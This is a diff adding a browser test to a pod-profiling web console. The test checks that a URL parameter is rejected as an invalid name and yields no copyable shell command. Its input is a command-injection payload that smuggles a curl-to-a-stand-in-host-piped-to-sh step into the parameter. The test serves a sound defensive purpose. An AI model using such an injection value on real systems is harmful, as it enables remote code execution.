@@ -63,6 +63,20 @@ test('text cannot become code, and nobody else is asked', async ({ page, link, w
   watched.errors.length = 0;
 });
 
+test('an address offers no command of its own to a shell', async ({ page, link }) => {
+  const evil = encodeURIComponent('x;curl$IFS@evil|sh');
+  await open(page, link, `#/now?namespace=shop&pods=${evil}`);
+  const button = page.getByRole('button', { name: 'Profile now' });
+  await expect(button).toHaveAccessibleDescription(/^"x;curl\$IFS@evil\|sh" is not a name/);
+  const copy = page.getByRole('button', { name: /^Copy/ });
+  await expect(copy).toHaveCount(0);
+  await page.evaluate((to) => location.assign(to), `#/profile/shop/orders-two?base=${evil}`);
+  await expect(page.getByRole('button', { name: 'Save as pprof' })).toBeVisible();
+  await expect(copy).toHaveCount(0);
+  await page.evaluate((to) => location.assign(to), '#/profile/shop/orders-two');
+  await expect(copy).toHaveAccessibleName(/ orders-two -n shop -o orders-two\.html --context fake$/);
+});
+
 test('another page cannot read, change or frame the console', async ({
   page,
   link,
